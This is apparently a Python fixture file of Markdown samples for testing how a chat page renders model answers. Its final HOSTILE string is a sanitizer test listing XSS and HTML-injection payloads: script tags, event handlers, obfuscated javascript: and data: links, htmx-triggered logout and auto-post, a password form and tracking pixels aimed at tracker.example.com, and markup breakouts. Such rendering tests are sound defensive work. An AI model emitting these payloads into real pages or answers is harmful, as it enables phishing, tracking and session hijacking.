"""Pieces of Markdown that the practice models show, so that a page can be seen to draw them."""

TABLE = """\
| Planet | Moons | Day length | Note |
| :--- | ---: | :---: | --- |
| Mercury | 0 | 59 days | *closest to the sun* |
| Earth | 1 | 24 h | **home** |
| Mars | 2 | 24 h 37 min | `cold` |
| Saturn | 274 | 10 h 42 min | rings, and a cell that is long enough to show how a wide table is scrolled |
"""

CODE = """\
```python
from collections.abc import Iterator


def fibonacci(limit: int) -> Iterator[int]:
    \"\"\"Yield the Fibonacci numbers below `limit`.\"\"\"
    a, b = 0, 1
    while a < limit:
        yield a
        a, b = b, a + b


print(list(fibonacci(100)))  # [0, 1, 1, 2, 3, 5, 8, …]
```

The same in JavaScript:

```javascript
function* fibonacci(limit) {
  let [a, b] = [0, 1];
  while (a < limit) {
    yield a;
    [a, b] = [b, a + b];
  }
}

console.log([...fibonacci(100)].join(" < ")); // a line with <angle> brackets & an ampersand
```
"""

LIST = """\
1. Choose a question.
2. Ask it:
   - in one sentence,
   - with what you already know,
   - and with the form that you want.
3. Read the answer, then ask on.

- A point with **bold** and *italic* words
- A point with `inline code` and a [link](https://example.com/)
- A last point
"""

QUOTE = """\
> The Analytical Engine has no pretensions whatever to *originate* anything.
> It can do whatever we know how to order it to perform.
>
> — Ada Lovelace, 1843
"""

TASKS = """\
- [x] Start the chat
- [x] Ask a first question
- [ ] Add a gateway key
- [ ] Ask a real model
"""

MATHS = """\
Inline mathematics, $e^{i\\pi} + 1 = 0$, and in a block:

$$
\\int_0^1 x^2 \\, dx = \\frac{1}{3}
$$
"""

EVERYTHING = f"""\
# A tour of Markdown

Text with **bold**, *italic*, ***both***, ~~struck out~~, `inline code`,
a [link](https://example.com/ "Example"), a bare address https://example.com/path?q=1&r=2,
and characters from elsewhere: naïve, 你好, שלום, 👩‍🚀.

## A list

{LIST}
## Tasks

{TASKS}
## A table

{TABLE}
## Code

{CODE}
    An indented block of code.

## A quote

{QUOTE}
## Mathematics

{MATHS}
---

### The end

A last line with two spaces at its end,\x20\x20
and the line after it.
"""

PARAGRAPH = (
    "A practice answer can be as long as you like, because nothing is computed and nothing is paid for. "
    "It is here to show how text arrives: word by word, at the pace of a quick reader, while the view "
    "follows the end for as long as you stay there. Scroll up, and it stays where you look. Press Stop, and "
    "what has come so far is kept."
)

HOSTILE = """\
This answer tries to break out of its message. A page that shows it shows only text.

<script>document.title = "hostile"; window.hostile = true;</script>
<img src="x" onerror="window.hostile = true">
<img src="https://tracker.example.com/pixel.png?who=you" width="1" height="1">
![a picture of somebody else](https://tracker.example.com/picture.png)
<style>body { display: none } .hostile { color: red }</style>
<p style="position: fixed; inset: 0; background: red">a cover over the page</p>
<div hx-get="/logout/" hx-trigger="load" hx-target="body">hx</div>
<button hx-post="/c/" hx-vals='{"text": "sent by the model"}' hx-trigger="load delay:1s">Press</button>
<div data-hx-get="/logout/" data-hx-trigger="load"></div>
<form action="https://tracker.example.com/" method="post"><input name="password">
<button>Log in</button></form>
<iframe src="https://tracker.example.com/"></iframe>
<svg onload="window.hostile = true"><a xlink:href="javascript:window.hostile=true"><text>x</text></a></svg>
<a href="javascript:window.hostile=true">a link that runs</a>
<meta http-equiv="refresh" content="0;url=/logout/">
<base href="https://tracker.example.com/"><link rel="stylesheet" href="https://tracker.example.com/x.css">

[a Markdown link that runs](javascript:window.hostile=true)
and [one in capitals](JaVaScRiPt:window.hostile=true)
and [one of data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT10cnVlPC9zY3JpcHQ+)
and [one with a tab](java&#9;script:window.hostile=true) and <javascript:window.hostile=true>.

```html" onmouseover="window.hostile = true
</code></pre><script>window.hostile = true</script>
```

| <script>window.hostile = true</script> | `</td></table><script>window.hostile = true</script>` |
| --- | --- |
| <img src=x onerror=window.hostile=true> | "><script>window.hostile = true</script> |

<details open ontoggle="window.hostile = true"><summary>More</summary></details>
</article></main><h1 id="messages" class="hostile">A heading outside of the message</h1>

<think>not a thought</think> \u202egnirts desrever a\u202c &lt;script&gt;entities&lt;/script&gt;
<!-- a comment that never closes

The end of the hostile answer.
"""
